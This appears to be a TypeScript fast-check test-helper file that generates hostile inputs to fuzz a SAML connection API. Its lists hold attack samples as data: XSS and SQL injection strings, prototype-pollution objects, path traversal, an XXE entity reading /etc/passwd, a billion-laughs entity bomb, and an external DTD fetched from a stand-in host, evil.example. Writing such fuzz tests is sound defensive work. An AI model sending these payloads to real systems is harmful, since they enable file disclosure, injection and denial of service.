/**
 * fast-check generators for hostile input: random and mutated JSON bodies, query strings, path ids,
 * base64 and XML. Mutations are plain data (not closures) so a counterexample prints readably.
 */
import fc from 'fast-check'

/** Every property runs with this seed, so a failure reproduces exactly; change it to explore further. */
export const SEED = 20_260_501
export const runs = (numRuns: number) => ({ seed: SEED, numRuns })
/** Properties make many real requests; vitest's 5 s default is too short for a slow machine. */
export const PROPERTY_TIMEOUT = 60_000

export const POLLUTION_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'] as const

// ---------------------------------------------------------------- strings

/** Long strings of one character: ASCII, 2-byte, 4-byte, NUL and markup. */
export const hugeString = fc
  .tuple(fc.constantFrom('x', 'é', '😀', '\u0000', '<', '%'), fc.integer({ min: 1_000, max: 300_000 }))
  .map(([c, n]) => c.repeat(n))

const NASTY_CONSTANTS = [
  '', ' ', '\u0000', '\uFEFF', '\u202E', '\r\n', 'null', 'undefined', 'true', '0', '-1', 'NaN', '1e309',
  '__proto__', 'constructor', 'prototype', '<script>alert(1)</script>', "'; DROP TABLE saml_connections; --",
  '%00', '../..', 'javascript:alert(1)', 'https://', 'http://localhost', 'https://idp.example.com/sso', 'https://[::1]/x',
  'example.com', 'EXAMPLE.COM', '-bad-.com', 'a'.repeat(300), `${'x.'.repeat(130)}com`, '😀'.repeat(100), '\ud800', '\udfff',
  'saml_custom', 'saml_okta', 'email_address', 'off', '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----',
]

export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.string({ maxLength: 40 }), weight: 3 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 2 },
  // Lone surrogates included: JSON can carry them, UTF-8 cannot.
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.constantFrom(...NASTY_CONSTANTS), weight: 3 },
  { arbitrary: hugeString, weight: 1 },
)

// ---------------------------------------------------------------- URLs

const URL_SCHEMES = [
  'https://', 'http://', 'HTTPS://', 'HtTp://', 'https:', 'http:/', '//', '', 'javascript:', 'JAVASCRIPT:', 'JaVaScRiPt:', 'java\tscript:',
  'data:', 'DATA:text/html,', 'vbscript:', 'file://', 'ftp://', 'blob:https://', ' https://', '\thttps://', '\u0000https://', '\ufeffhttps://',
]
const URL_HOSTS = [
  'idp.example.com', 'IdP.Example.COM', 'idp.example.com:8443', 'idp.example.com:443', '127.0.0.1', '[::1]', 'localhost:3000', 'user:pw@idp.example.com',
  'trusted.example.com@evil.example', 'bücher.example', 'xn--bcher-kva.example', 'idp.example.com.', '', 'alert(document.domain)', '%69dp.example.com',
]
const URL_PATHS = ['/sso', '/', '', '/saml2/sso?tenant=a&x=<1>', '/a b', '/%zz', '/sso#frag', '//', '/\u00e9', '?q="x"', "/'><script>alert(1)</script>", '/../../etc']
/** Characters that must never survive into a stored URL: whitespace, controls, invisible format characters. */
const URL_INSERTS = [' ', '\t', '\r', '\n', '\r\n', '\u0000', '\u000b', '\u000c', '\u007f', '\u0085', '\u00a0', '\u2028', '\u200b', '\u202e', '\ufeff', '\\', '%0d%0a']

/**
 * A URL-shaped string: scheme, host and path from lists of legitimate and hostile spellings, with up
 * to three hostile characters inserted anywhere; sometimes a generated web URL or plain noise.
 */
export const urlLike: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc
      .tuple(fc.constantFrom(...URL_SCHEMES), fc.constantFrom(...URL_HOSTS), fc.constantFrom(...URL_PATHS), fc.array(fc.tuple(fc.nat(), fc.constantFrom(...URL_INSERTS)), { maxLength: 3 }))
      .map(([scheme, host, path, inserts]) =>
        inserts.reduce((u, [at, ch]) => u.slice(0, at % (u.length + 1)) + ch + u.slice(at % (u.length + 1)), `${scheme}${host}${path}`),
      ),
    weight: 6,
  },
  { arbitrary: fc.webUrl({ withQueryParameters: true, withFragments: true }), weight: 2 },
  { arbitrary: nastyString.filter((s) => s.length < 3_000), weight: 1 },
)

// ---------------------------------------------------------------- domains

const DOMAIN_LABELS = [
  'acme', 'ACME', 'Acme', 'bücher', 'BÜCHER', 'xn--bcher-kva', 'xn--', 'xn--zz', 'münchen', '公司', 'ｆｕｌｌ', 'a-b', '-a', 'a-', '_dmarc', '0', '127',
  '0x7f', 'localhost', 'www', 'co', 'a'.repeat(63), 'a'.repeat(64), 'é\u0301', '\u200b', 'ß', 'İ', '%41', 'a b', 'a@b', 'a/b', 'a:1', '[::1]',
]
/** Public suffixes from both sections of the list, single-label TLDs, wildcard rules and names no list holds. */
const DOMAIN_SUFFIXES = [
  'com', 'COM', 'co.uk', 'github.io', 'pages.dev', 'blogspot.com', 'workers.dev', 's3.amazonaws.com', 'ck', '公司.cn', 'xn--55qx5d.cn', 'example', 'test',
  'internal', 'local', 'uk', 'zz', '1', '',
]

/**
 * A domain-shaped string: zero to four labels from a list of legitimate and hostile spellings in
 * front of a public suffix, with an optional trailing dot or two; sometimes a generated domain or noise.
 */
export const domainLike: fc.Arbitrary<string> = fc.oneof(
  {
    arbitrary: fc
      .tuple(fc.array(fc.constantFrom(...DOMAIN_LABELS), { maxLength: 4 }), fc.constantFrom(...DOMAIN_SUFFIXES), fc.constantFrom('', '', '.', '..'))
      .map(([labels, suffix, dots]) => [...labels, suffix].filter((l, i, all) => l !== '' || i < all.length - 1).join('.') + dots),
    weight: 6,
  },
  { arbitrary: fc.domain(), weight: 2 },
  { arbitrary: nastyString.filter((s) => s.length < 3_000), weight: 1 },
)

/** Escapes text for an XML attribute, writing controls as character references (as a hostile IdP would). */
export const xmlAttr = (s: string): string =>
  [...s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')].map((ch) => (/[\u0000-\u001f\u007f]/.test(ch) ? `&#${ch.charCodeAt(0)};` : ch)).join('')

// ---------------------------------------------------------------- JSON

/** Nesting far past anything a schema expects, as raw JSON text. */
export const deepJson = fc
  .tuple(fc.constantFrom('array', 'object'), fc.integer({ min: 10, max: 20_000 }))
  .map(([shape, n]) => (shape === 'array' ? '['.repeat(n) + ']'.repeat(n) : '{"a":'.repeat(n) + '1' + '}'.repeat(n)))

const POLLUTING_VALUES = [
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '{"prototype":{"polluted":"yes"}}',
]

/** Any JSON value, as text: wrong types, edge numbers, nasty strings, deep nesting, polluting objects. */
export const rawJsonValue: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)), weight: 4 },
  { arbitrary: nastyString.map((s) => JSON.stringify(s)), weight: 4 },
  {
    arbitrary: fc.constantFrom('1e309', '-1e309', '-0', '1e-400', '12345678901234567890123', '-9007199254740993', '0.5', 'true', 'false', 'null', '[]', '{}', '[null]', '[""]', ...POLLUTING_VALUES),
    weight: 3,
  },
  { arbitrary: deepJson, weight: 1 },
)

/** A JSON object written from entries, so `__proto__` and repeated keys survive (object literals lose them). */
export const objectText = (entries: readonly (readonly [string, string])[]): string =>
  `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${v}`).join(',')}}`

const anyKey = fc.oneof(
  { arbitrary: fc.string({ maxLength: 20 }), weight: 2 },
  { arbitrary: fc.constantFrom(...POLLUTION_KEYS), weight: 1 },
)

/** A body that is anything at all: random JSON, random objects, non-JSON text, bytes, deep nesting. */
export const anyBody: fc.Arbitrary<string | Uint8Array> = fc.oneof(
  { arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)), weight: 3 },
  { arbitrary: fc.array(fc.tuple(anyKey, rawJsonValue), { maxLength: 6 }).map(objectText), weight: 4 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 200 }), weight: 1 },
  { arbitrary: fc.uint8Array({ maxLength: 300 }), weight: 1 },
  { arbitrary: deepJson, weight: 1 },
  {
    arbitrary: fc.constantFrom('', ' ', '{', '{}', '[]', 'null', '"x"', '{"a":1,"a":2}', '\uFEFF{}', '{"name":"x"}garbage', '{"name":"x"', ...POLLUTING_VALUES),
    weight: 2,
  },
)

export type BodyMutation =
  | { op: 'set'; key: string; value: string }
  | { op: 'delete'; key: string }
  | { op: 'repeat'; key: string; value: string }
  | { op: 'nest'; key: string; inner: string; value: string }

/**
 * One mutation of a valid body: a field set to a hostile value, removed, repeated (JSON keeps the last),
 * or given a hostile nested key (prototype-pollution attempts inside sub-objects).
 */
export const bodyMutation = (keys: readonly string[]): fc.Arbitrary<BodyMutation> => {
  const key = fc.oneof({ arbitrary: fc.constantFrom(...keys), weight: 6 }, { arbitrary: anyKey, weight: 2 })
  return fc.oneof(
    { arbitrary: fc.record({ op: fc.constant('set' as const), key, value: rawJsonValue }), weight: 6 },
    { arbitrary: fc.record({ op: fc.constant('delete' as const), key }), weight: 1 },
    { arbitrary: fc.record({ op: fc.constant('repeat' as const), key, value: rawJsonValue }), weight: 1 },
    { arbitrary: fc.record({ op: fc.constant('nest' as const), key, inner: anyKey, value: rawJsonValue }), weight: 1 },
  )
}

/** Writes a valid body with some mutations applied, as JSON text. */
export function applyBodyMutations(valid: Record<string, unknown>, mutations: readonly BodyMutation[]): string {
  let entries: [string, string][] = Object.entries(valid).map(([k, v]) => [k, JSON.stringify(v)])
  for (const m of mutations) {
    if (m.op === 'delete') entries = entries.filter(([k]) => k !== m.key)
    else if (m.op === 'repeat') entries.push([m.key, m.value])
    else if (m.op === 'nest') entries = [...entries.filter(([k]) => k !== m.key), [m.key, objectText([[m.inner, m.value]])]]
    else entries = [...entries.filter(([k]) => k !== m.key), [m.key, m.value]]
  }
  return objectText(entries)
}

export const contentType = fc.oneof(
  { arbitrary: fc.constant('application/json'), weight: 8 },
  {
    arbitrary: fc.constantFrom('application/json; charset=utf-8', 'APPLICATION/JSON', 'application/vnd.api+json', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16', 'application/xml', ''),
    weight: 2,
  },
)

// ---------------------------------------------------------------- query strings and paths

const queryValue = fc.oneof(
  { arbitrary: fc.integer().map(String), weight: 2 },
  { arbitrary: fc.double().map(String), weight: 1 },
  {
    arbitrary: fc.constantFrom('', '0', '1', '10', '500', '501', '-1', '1e3', '1e309', '0x10', ' 5', '5 ', '1.5', 'NaN', 'Infinity', '-created_at', '+created_at', 'created_at', 'name', '+name', '-name', '-', '+', '+org_1', '-org_1', '%', '%%', '\u0000', 'a'.repeat(300)),
    weight: 4,
  },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }), weight: 2 },
)
const queryKey = fc.oneof(
  { arbitrary: fc.constantFrom('limit', 'offset', 'order_by', 'organization_id', 'query'), weight: 6 },
  { arbitrary: fc.constantFrom(...POLLUTION_KEYS, 'limit[]', 'organization_id[]', 'LIMIT'), weight: 1 },
  { arbitrary: fc.string({ maxLength: 8 }), weight: 1 },
)
/** Raw text appended after the encoded pairs: malformed escapes and stray separators. */
const queryTail = fc.constantFrom('', '', '', '&', '&&', '=', '%', '%zz', '%E0%A4%A', '%C0%AF', '%00', '%ED%A0%80', '&limit', '&limit=', '&=5', ';', '+', '&query=%FF')

/** A query string (without the `?`): known and unknown keys, repeated keys, up to 130 organization ids. */
export const queryString = fc
  .tuple(
    fc.array(fc.tuple(queryKey, queryValue), { maxLength: 8 }),
    // Around the cap of 100 values, where each value used to be one bound SQL parameter.
    fc.oneof({ arbitrary: fc.constant(0), weight: 4 }, { arbitrary: fc.integer({ min: 95, max: 101 }), weight: 1 }, { arbitrary: fc.integer({ min: 102, max: 130 }), weight: 1 }),
    queryTail,
  )
  .map(([pairs, orgs, tail]) => {
    const params = new URLSearchParams()
    for (const [k, v] of pairs) params.append(k, v)
    for (let i = 0; i < orgs; i++) params.append('organization_id', `${i % 3 ? '+' : '-'}org_${i}`)
    return `${params.toString()}${tail}`
  })

/** A path segment where an id belongs: well-formed, malformed, encoded, traversal, too long. */
export const pathId = fc.oneof(
  { arbitrary: fc.stringMatching(/^samlc_[0-9A-Za-z]{27}$/), weight: 2 },
  {
    arbitrary: fc.constantFrom('samlc_', 'x', '.', '..', '%2e%2e', '%2F', 'a%2Fb', '%00', '%', '%zz', '%E0%A4%A', `samlc_${'A'.repeat(200)}`, '__proto__', 'constructor', 'list', 'remove'),
    weight: 2,
  },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }).map(encodeURIComponent), weight: 2 },
  { arbitrary: fc.string({ minLength: 129, maxLength: 400 }).map(encodeURIComponent), weight: 1 },
)

/** How a browser-facing form is posted: mostly as a form, sometimes as JSON. */
export type Encoding = 'form' | 'json'
export const formOrJson = fc.constantFrom<Encoding>('form', 'form', 'json')

// ---------------------------------------------------------------- base64

/** Standard base64 of bytes (of UTF-8 text: toBase64 in test/helpers/test-idp.ts). */
function base64Of(bytes: Uint8Array): string {
  let binary = ''
  for (const b of bytes) binary += String.fromCharCode(b)
  return btoa(binary)
}

export const randomBase64 = fc.oneof(
  { arbitrary: fc.uint8Array({ maxLength: 600 }).map(base64Of), weight: 3 },
  { arbitrary: fc.stringMatching(/^[A-Za-z0-9+/]{0,200}={0,3}$/), weight: 2 },
  { arbitrary: fc.string({ maxLength: 100 }), weight: 1 },
  { arbitrary: fc.constantFrom('', '=', '==', '====', 'A', 'AA', 'AAA', 'AAAA', '!!!!', 'PD94', ' PD94bWw=', 'PD94bWw=\n', 'PD94bWw', 'PD94bWw==='), weight: 2 },
)

export type Base64Mutation =
  | { op: 'replace' | 'insert'; at: number; char: string }
  | { op: 'delete'; at: number; length: number }
  | { op: 'truncate'; at: number }
  | { op: 'urlSafe' | 'stripPadding' | 'extraPadding' | 'wrapLines' | 'surroundSpaces' }

export const base64Mutation: fc.Arbitrary<Base64Mutation> = fc.oneof(
  fc.record({ op: fc.constantFrom('replace' as const, 'insert' as const), at: fc.nat(), char: fc.constantFrom('-', '_', ' ', '\n', '=', '.', '*', 'A', '/', '+', '\u00e9') }),
  fc.record({ op: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 8 }) }),
  fc.record({ op: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ op: fc.constantFrom('urlSafe' as const, 'stripPadding' as const, 'extraPadding' as const, 'wrapLines' as const, 'surroundSpaces' as const) }),
)

export function applyBase64Mutation(b64: string, m: Base64Mutation): string {
  const at = 'at' in m ? m.at % (b64.length + 1) : 0
  switch (m.op) {
    case 'replace':
      return b64.slice(0, at) + m.char + b64.slice(at + 1)
    case 'insert':
      return b64.slice(0, at) + m.char + b64.slice(at)
    case 'delete':
      return b64.slice(0, at) + b64.slice(at + m.length)
    case 'truncate':
      return b64.slice(0, at)
    case 'urlSafe':
      return b64.replace(/\+/g, '-').replace(/\//g, '_')
    case 'stripPadding':
      return b64.replace(/=+$/, '')
    case 'extraPadding':
      return `${b64}==`
    case 'wrapLines':
      return b64.replace(/(.{76})/g, '$1\r\n')
    case 'surroundSpaces':
      return ` ${b64} `
  }
}

// ---------------------------------------------------------------- XML

const xmlNoise = fc.oneof(
  { arbitrary: fc.string({ maxLength: 20 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 10 }), weight: 1 },
  {
    arbitrary: fc.constantFrom(
      '<', '>', '&', '"', "'", '</', '/>', '<a>', '</a>', '<a/>', '<!--', '-->', '<!-- c -->', '<![CDATA[', ']]>', '<![CDATA[x]]>',
      '<?xml version="1.0"?>', '<?pi x?>', '&amp;', '&lt;', '&#0;', '&#x110000;', '&#65;', '&#xD800;', '&xxe;', '&lol9;',
      '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '<!ENTITY a "b">', '<!DOCTYPE md:EntityDescriptor>',
      '\uFEFF', '\u0000', '\r\n', ' xmlns="urn:x"', ' xmlns:md="urn:other"', ' entityID="x"', ' ID="dup"', ' ID=""', 'md:', 'ds:', '=', '\t',
    ),
    weight: 4,
  },
)

export type XmlMutation =
  | { op: 'delete'; at: number; length: number }
  | { op: 'insert'; at: number; text: string }
  | { op: 'duplicate'; at: number; length: number }
  | { op: 'truncate'; at: number }
  | { op: 'nest'; depth: number; tag: string }
  | { op: 'prepend'; text: string }
  | { op: 'attribute'; index: number; value: string }
  | { op: 'rename'; index: number; name: string }
  | { op: 'text'; index: number; value: string }
  | { op: 'dropLeaf' | 'copyLeaf'; index: number }

const PROLOGS = [
  '<!DOCTYPE md:EntityDescriptor>',
  '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`,
  '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>',
  '\uFEFF',
  '<!-- leading comment -->',
  '\n\n   ',
  '<?xml-stylesheet href="x"?>',
]

export const xmlMutation: fc.Arbitrary<XmlMutation> = fc.oneof(
  { arbitrary: fc.record({ op: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 200 }) }), weight: 1 },
  { arbitrary: fc.record({ op: fc.constant('insert' as const), at: fc.nat(), text: xmlNoise }), weight: 2 },
  { arbitrary: fc.record({ op: fc.constant('duplicate' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 400 }) }), weight: 1 },
  { arbitrary: fc.record({ op: fc.constant('truncate' as const), at: fc.nat() }), weight: 1 },
  {
    arbitrary: fc.record({ op: fc.constant('nest' as const), depth: fc.integer({ min: 1, max: 300 }), tag: fc.constantFrom('a', 'md:EntitiesDescriptor', 'samlp:Response', 'x:y') }),
    weight: 1,
  },
  { arbitrary: fc.record({ op: fc.constant('prepend' as const), text: fc.constantFrom(...PROLOGS) }), weight: 1 },
  // The rest keep the document well-formed, so it gets past the parser to the checks behind it.
  { arbitrary: fc.record({ op: fc.constant('attribute' as const), index: fc.nat(), value: nastyString.filter((s) => s.length < 5_000) }), weight: 3 },
  {
    arbitrary: fc.record({
      op: fc.constant('rename' as const),
      index: fc.nat(),
      name: fc.constantFrom('a', 'md:EntityDescriptor', 'EntityDescriptor', 'md:IDPSSODescriptor', 'saml:Assertion', 'ds:Signature', 'x:', '1bad', '__proto__', 'constructor:x'),
    }),
    weight: 1,
  },
  { arbitrary: fc.record({ op: fc.constant('text' as const), index: fc.nat(), value: nastyString.filter((s) => s.length < 5_000) }), weight: 3 },
  { arbitrary: fc.record({ op: fc.constantFrom('dropLeaf' as const, 'copyLeaf' as const), index: fc.nat() }), weight: 3 },
)

const escapeAttr = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')
/** Elements without element children: `<x .../>` or `<x ...>text</x>`. */
const LEAF = /<([A-Za-z_][\w.:-]*)\b[^<>]*?(?:\/>|>[^<]*<\/\1>)/g

const nth = (matches: RegExpMatchArray[], index: number) => matches[index % Math.max(matches.length, 1)]

export function applyXmlMutation(xml: string, m: XmlMutation): string {
  const pos = (n: number) => n % (xml.length + 1)
  switch (m.op) {
    case 'delete':
      return xml.slice(0, pos(m.at)) + xml.slice(pos(m.at) + m.length)
    case 'insert':
      return xml.slice(0, pos(m.at)) + m.text + xml.slice(pos(m.at))
    case 'duplicate': {
      const at = pos(m.at)
      return xml.slice(0, at + m.length) + xml.slice(at, at + m.length) + xml.slice(at + m.length)
    }
    case 'truncate':
      return xml.slice(0, pos(m.at))
    case 'nest': {
      const body = xml.replace(/^\s*<\?xml[^>]*\?>/, '')
      const ns = m.tag.includes(':') ? ` xmlns:${m.tag.split(':')[0]}="urn:oasis:names:tc:SAML:2.0:metadata"` : ''
      return `${`<${m.tag}${ns}>`.repeat(m.depth)}${body}${`</${m.tag}>`.repeat(m.depth)}`
    }
    case 'prepend':
      return xml.replace(/^(\s*<\?xml[^>]*\?>)?/, (decl) => `${decl}${m.text}`)
    case 'attribute': {
      const matches = [...xml.matchAll(/="[^"]*"/g)]
      const hit = matches[m.index % Math.max(matches.length, 1)]
      if (!hit || hit.index === undefined) return xml
      return `${xml.slice(0, hit.index)}="${escapeAttr(m.value)}"${xml.slice(hit.index + hit[0].length)}`
    }
    case 'rename': {
      const matches = [...xml.matchAll(/<\/?([A-Za-z_][\w.:-]*)/g)]
      const hit = matches[m.index % Math.max(matches.length, 1)]
      if (!hit || hit.index === undefined || !hit[1]) return xml
      const start = hit.index + hit[0].length - hit[1].length
      return xml.slice(0, start) + m.name + xml.slice(start + hit[1].length)
    }
    case 'text': {
      const hit = nth([...xml.matchAll(/>([^<]+)</g)], m.index)
      if (!hit || hit.index === undefined) return xml
      return `${xml.slice(0, hit.index)}>${escapeAttr(m.value)}<${xml.slice(hit.index + hit[0].length)}`
    }
    case 'dropLeaf':
    case 'copyLeaf': {
      const hit = nth([...xml.matchAll(LEAF)], m.index)
      if (!hit || hit.index === undefined) return xml
      const end = hit.index + hit[0].length
      return xml.slice(0, m.op === 'dropLeaf' ? hit.index : end) + xml.slice(m.op === 'dropLeaf' ? end : hit.index)
    }
  }
}

/** One to three mutations of a valid document. */
export const xmlMutations = fc.array(xmlMutation, { minLength: 1, maxLength: 3 })
export const mutateXml = (xml: string, ms: readonly XmlMutation[]): string => ms.reduce(applyXmlMutation, xml)

/** Random XML-ish text that is not derived from a valid document. */
export const randomXml = fc.oneof(
  fc.string({ maxLength: 300 }),
  fc.array(xmlNoise, { maxLength: 30 }).map((parts) => parts.join('')),
  fc.integer({ min: 1, max: 5_000 }).map((n) => `${'<a>'.repeat(n)}${'</a>'.repeat(n)}`),
  fc.constantFrom('<a/><b/>', '<?xml version="1.0"?>', '<a xmlns:x="urn:x"><x:b x:c="1" x:c="2"/></a>', '<a><![CDATA[<b>]]></a>', '<a>&#x0;</a>'),
)
